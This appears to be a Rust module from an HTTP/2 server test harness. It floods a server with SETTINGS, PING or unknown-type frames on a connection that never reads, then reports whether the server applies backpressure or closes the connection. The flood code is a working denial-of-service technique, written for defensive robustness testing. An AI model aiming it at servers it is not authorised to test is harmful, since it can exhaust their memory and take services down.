//! Floods of frames the server must answer or skip, from a client that
//! never reads: SETTINGS (each one owes an ACK), PING (each one owes an
//! ACK) and frames of unknown types (to be ignored, RFC 9113 section 4.1).
//!
//! The danger is not the frames but the answers: a server that queues an
//! ACK for every frame it reads, while the client reads none of them,
//! grows its send buffer without end. A bounded server stops reading
//! until its answers drain (backpressure: the client's writes stall), or
//! closes the connection. Which of the two is the server's call; what it
//! must not do is keep reading and queueing. Run it on a [`Conn::deaf`]
//! connection, measure the server while the connection is still open,
//! then drop it.

use std::time::Duration;

use crate::conn::{Conn, Sent};
use crate::frame::{self, setting};

/// Which frame to flood with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FloodFrame {
    /// SETTINGS with one value (INITIAL_WINDOW_SIZE 65535, the default).
    Settings,
    /// PING with a counter as payload.
    Ping,
    /// A frame of type 0xfa with 16 bytes of payload, on stream 0.
    Unknown,
}

/// A control-frame flood.
#[derive(Clone, Debug)]
pub struct ControlFlood {
    /// Which frame.
    pub frame: FloodFrame,
    /// Frames to send at most.
    pub frames: usize,
    /// Frames per write.
    pub per_write: usize,
    /// How long one write may take before the server counts as having
    /// stopped reading: the flood then ends, as backpressure.
    pub stall: Duration,
}

impl ControlFlood {
    /// 200,000 frames of `frame` (3-5 MB), 1000 a write, a write stalled
    /// after 3 s.
    pub fn new(frame: FloodFrame) -> ControlFlood {
        ControlFlood {
            frame,
            frames: 200_000,
            per_write: 1000,
            stall: Duration::from_secs(3),
        }
    }
}

/// What a flood achieved.
#[derive(Clone, Debug)]
pub struct ControlFloodReport {
    /// Frames written in full.
    pub frames_written: usize,
    /// Bytes written, preface included.
    pub bytes_written: u64,
    /// How the flood ended: all sent ([`Sent::Done`]), the connection
    /// closed, or a write stalled (the server stopped reading).
    pub ended: Sent,
}

/// Sends the preface, an empty SETTINGS, then the flood, never reading.
pub async fn control_flood(conn: &mut Conn, attack: &ControlFlood) -> ControlFloodReport {
    let mut report = ControlFloodReport {
        frames_written: 0,
        bytes_written: 0,
        ended: Sent::Done,
    };
    let mut start = frame::PREFACE.to_vec();
    start.extend(frame::settings(&[]));
    report.ended = conn.send_within(&start, attack.stall).await;
    if report.ended != Sent::Done {
        return report;
    }
    report.bytes_written += start.len() as u64;
    let mut counter: u64 = 0;
    while report.frames_written < attack.frames {
        let count = attack.per_write.min(attack.frames - report.frames_written);
        let mut bytes = Vec::new();
        for _ in 0..count {
            counter += 1;
            bytes.extend(match attack.frame {
                FloodFrame::Settings => frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]),
                FloodFrame::Ping => frame::ping(counter.to_be_bytes(), false),
                FloodFrame::Unknown => frame::frame(0xfa, 0, 0, &[0x55; 16]),
            });
        }
        report.ended = conn.send_within(&bytes, attack.stall).await;
        if report.ended != Sent::Done {
            break;
        }
        report.frames_written += count;
        report.bytes_written += bytes.len() as u64;
    }
    report
}
